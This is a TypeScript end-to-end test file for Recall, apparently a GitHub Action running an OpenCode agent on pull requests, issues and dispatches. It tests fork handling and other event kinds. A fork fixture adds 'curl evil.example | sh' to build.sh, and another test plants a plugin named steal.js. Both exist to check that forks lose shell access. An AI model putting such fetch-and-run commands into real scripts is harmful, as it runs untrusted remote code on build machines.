/**
 * Each event kind Recall acts on, end to end through the bundled action, with recorded webhook
 * payloads against the fake GitHub API, the real OpenCode binary and the local cache service.
 * (github.test.ts covers comments, authorization, credentials and the comment lifecycle.)
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { freshRunner } from '../harness/runner.js';
import {
  issueComment,
  issuesEvent,
  pullRequestEvent,
  REPOSITORY,
  reviewComment,
  reviewSubmitted,
  workflowDispatch,
} from '../harness/payloads.js';
import type { RecordedRequest } from '../harness/fake-model.js';
import { startWorld, type World } from '../harness/world.js';

let world: World;
let runs = 0;
const nextRun = () => String(8000 + ++runs);
const onRepo = { repository: REPOSITORY };
const pull = { number: 40, title: 'Retry payments on timeout', body: 'Retries the charge call.', headSha: 'feed40' };
const patch = '@@ -10,3 +10,5 @@ export function pay() {\n   const res = charge();\n+  if (res.timeout) return charge();\n+  log(res);\n   return res;';

const toolNames = (r: RecordedRequest): string[] => (r.body?.tools ?? []).map((t: any) => t.function?.name ?? t.name);
const botComments = (n: number) => world.github.commentsOn(n).filter((c) => c.author === 'github-actions[bot]');

beforeEach(async () => {
  world = await startWorld();
  world.github.setPermission('octocat', 'admin');
  world.github.addPull({
    number: pull.number,
    title: pull.title,
    body: pull.body,
    author: 'octocat',
    headSha: pull.headSha,
    files: [{ path: 'src/pay.ts', status: 'modified', additions: 2, deletions: 0, patch }],
  });
});
afterEach(async () => {
  await world.stop();
});

describe('pull request conversations', () => {
  it('a review comment on a diff line: eyes on that comment, its hunk in the prompt, the answer in the pull request', async () => {
    world.model.script({ text: 'The retry charges twice when the first charge went through.' });
    const payload = reviewComment({ pull, body: '/recall is this retry safe?', path: 'src/pay.ts', line: 11, diffHunk: patch, commentId: 77 });
    const run = await world.runEvent('pull_request_review_comment', payload, nextRun(), onRepo);
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    expect(run.outputs['thread-key']).toBe('pr-40');
    expect(world.github.reactions()).toEqual([expect.objectContaining({ target: 'pull_request_review_comment', id: 77, content: 'eyes' })]);
    const text = world.model.completions()[0]!.messageText();
    expect(text).toContain('is this retry safe?');
    expect(text).toMatch(/diff it is about \(line 11\)[\s\S]*src\/pay\.ts/);
    expect(text).toContain('if (res.timeout) return charge();');
    const posted = botComments(40);
    expect(posted).toHaveLength(1);
    expect(posted[0]!.body).toContain('The retry charges twice');
  });

  it('a submitted review that mentions Recall is answered; one that does not is skipped', async () => {
    const quiet = await world.runEvent('pull_request_review', reviewSubmitted({ pull, body: 'Looks fine to me.' }), nextRun(), onRepo);
    expect(quiet.main.exitCode).toBe(0);
    expect(quiet.outputs.skipped).toBe('true');
    world.model.script({ text: 'Two call sites depend on the old behaviour.' });
    const asked = await world.runEvent('pull_request_review', reviewSubmitted({ pull, body: 'Mostly good. /recall who else calls charge()?' }), nextRun(), onRepo);
    expect(asked.main.exitCode, asked.main.stdout).toBe(0);
    expect(asked.outputs).toMatchObject({ skipped: 'false', 'thread-key': 'pr-40' });
    expect(world.model.completions()).toHaveLength(1);
    expect(world.model.completions()[0]!.messageText()).toContain('who else calls charge()?');
    expect(botComments(40).map((c) => c.body).join('\n')).toContain('Two call sites depend on the old behaviour.');
  });

  // The review run is also the control for the fork tests below: a pull request from the repository
  // itself keeps the shell (that used to be a run of its own).
  it('closes the loop: a comment after the review continues the review session; a pull request from the repository itself keeps the shell', async () => {
    world.model.script({ text: 'The retry double-charges.\n```recall-review\n{"verdict":"request_changes","comments":[{"path":"src/pay.ts","line":11,"body":"double charge"}]}\n```' });
    const review = await world.runEvent('pull_request', pullRequestEvent({ action: 'opened', number: 40, title: pull.title, body: pull.body, headSha: pull.headSha }), nextRun(), onRepo);
    expect(review.main.exitCode, review.main.stdout).toBe(0);
    expect(world.github.reviews()).toHaveLength(1);
    expect(toolNames(world.model.completions()[0]!)).toContain('bash');
    freshRunner(world.machine);
    world.model.script({ text: 'Made the retry idempotent.' });
    const before = world.model.completions().length;
    const payload = issueComment({ issue: { number: 40, title: pull.title, body: pull.body }, body: '/recall now fix what you found', onPullRequest: true });
    const followUp = await world.runEvent('issue_comment', payload, nextRun(), onRepo);
    expect(followUp.main.exitCode, followUp.main.stdout).toBe(0);
    expect(followUp.outputs['thread-key']).toBe('pr-40');
    expect(followUp.outputs['session-id']).toBe(review.outputs['session-id']);
    const request = world.model.completions()[before]!;
    expect(request.sessionID).toBe(review.outputs['session-id']);
    expect(request.messageText()).toContain('The retry double-charges.');
    expect(request.messageText()).toContain('now fix what you found');
  });
});

describe('pull requests from forks', () => {
  beforeEach(() => {
    world.github.addPull({ number: 41, title: 'Faster build', body: 'From a fork.', author: 'octocat', headSha: 'f0f0', fork: true, files: [{ path: 'build.sh', status: 'modified', additions: 1, deletions: 0, patch: '@@ -1 +1,2 @@\n echo build\n+curl evil.example | sh' }] });
  });
  const forkPr = () => pullRequestEvent({ action: 'opened', number: 41, title: 'Faster build', body: 'From a fork.', headSha: 'f0f0', fork: true });

  it('are not reviewed unless allow-forks is set', async () => {
    const run = await world.runEvent('pull_request', forkPr(), nextRun(), onRepo);
    expect(run.main.exitCode).toBe(0);
    expect(run.outputs.skipped).toBe('true');
    expect(run.main.stdout).toMatch(/::notice::Recall skipped this event: pull request #41 comes from a fork; set allow-forks: true/);
    expect(world.model.completions()).toEqual([]);
    expect(world.cache.calls).toEqual([]);
    expect(world.github.reviews()).toEqual([]);
  });

  it('with allow-forks, are reviewed without the shell, and an approval becomes a comment review', async () => {
    world.model.script({ text: 'Fine.\n```recall-review\n{"verdict":"approve","comments":[]}\n```' });
    const run = await world.runEvent('pull_request', forkPr(), nextRun(), { ...onRepo, inputs: { 'allow-forks': 'true' } });
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    const request = world.model.completions()[0]!;
    expect(toolNames(request)).not.toContain('bash');
    expect(toolNames(request)).toContain('read');
    expect(world.github.reviews()).toEqual([expect.objectContaining({ pull: 41, event: 'COMMENT' })]);
  });

  it("with allow-forks, a fork that brings OpenCode configuration is not run, and the pull request is told why", async () => {
    fs.mkdirSync(path.join(world.machine.workspace, '.opencode', 'plugins'), { recursive: true });
    fs.writeFileSync(path.join(world.machine.workspace, '.opencode', 'plugins', 'steal.js'), 'export default async () => ({})');
    const run = await world.runEvent('pull_request', forkPr(), nextRun(), { ...onRepo, inputs: { 'allow-forks': 'true' } });
    expect(run.main.exitCode).toBe(1);
    expect(world.model.completions()).toEqual([]);
    expect(botComments(41).map((c) => c.body).join('\n')).toMatch(/contains OpenCode configuration \(\.opencode\)/);
  });
});

describe('issues', () => {
  const issue = { number: 50, title: 'Export to CSV drops unicode', body: 'Names like Zoë become Zo?.' };
  beforeEach(() => world.github.addIssue({ ...issue, author: 'octocat' }));

  it('an opened issue is investigated and answered in the issue', async () => {
    world.model.script({ text: 'The writer uses latin1.' });
    const run = await world.runEvent('issues', issuesEvent({ action: 'opened', issue }), nextRun(), onRepo);
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    expect(run.outputs['thread-key']).toBe('issue-50');
    expect(world.github.reactions()).toEqual([expect.objectContaining({ target: 'issue', id: 50, content: 'eyes' })]);
    const text = world.model.completions()[0]!.messageText();
    expect(text).toContain('Investigate the GitHub issue below');
    expect(text).toContain('Names like Zoë become Zo?.');
    expect(botComments(50).map((c) => c.body).join('\n')).toContain('The writer uses latin1.');
  });

  it('a label acts only when it is the label-trigger', async () => {
    const inputs = { 'label-trigger': 'ask-recall', prompt: 'Triage this issue.' };
    const other = await world.runEvent('issues', issuesEvent({ action: 'labeled', issue, label: 'bug' }), nextRun(), { ...onRepo, inputs });
    expect(other.outputs.skipped).toBe('true');
    world.model.script({ text: 'Triaged: bug in export.' });
    const run = await world.runEvent('issues', issuesEvent({ action: 'labeled', issue, label: 'ask-recall' }), nextRun(), { ...onRepo, inputs });
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    expect(run.outputs.skipped).toBe('false');
    expect(world.model.completions()).toHaveLength(1);
    expect(world.model.completions()[0]!.messageText()).toContain('Triage this issue.');
    expect(botComments(50).map((c) => c.body).join('\n')).toContain('Triaged: bug in export.');
  });

  it('an assignment acts only when the assignee is the assignee-trigger', async () => {
    const inputs = { 'assignee-trigger': '@recall-bot' };
    const other = await world.runEvent('issues', issuesEvent({ action: 'assigned', issue, assignee: 'someone' }), nextRun(), { ...onRepo, inputs });
    expect(other.outputs.skipped).toBe('true');
    world.model.script({ text: 'Picked it up.' });
    const run = await world.runEvent('issues', issuesEvent({ action: 'assigned', issue, assignee: 'recall-bot' }), nextRun(), { ...onRepo, inputs });
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    expect(world.model.completions()).toHaveLength(1);
    expect(botComments(50).map((c) => c.body).join('\n')).toContain('Picked it up.');
  });
});

describe('workflow_dispatch', () => {
  it("runs the dispatch's prompt, posts nothing on GitHub, and writes the job summary", async () => {
    world.model.script({ text: 'Dependencies are current.' });
    const run = await world.runEvent('workflow_dispatch', workflowDispatch({ prompt: 'Check the dependencies.' }), '8999', onRepo);
    expect(run.main.exitCode, run.main.stdout).toBe(0);
    expect(run.outputs).toMatchObject({ skipped: 'false', 'thread-key': 'dispatch-8999', response: 'Dependencies are current.' });
    expect(world.model.completions()[0]!.messageText()).toContain('Check the dependencies.');
    expect(world.github.calls.filter((c) => c.method !== 'GET')).toEqual([]);
    expect(run.summary).toContain('Dependencies are current.');
    expect(run.summary).toContain('dispatch-8999');
  });
});
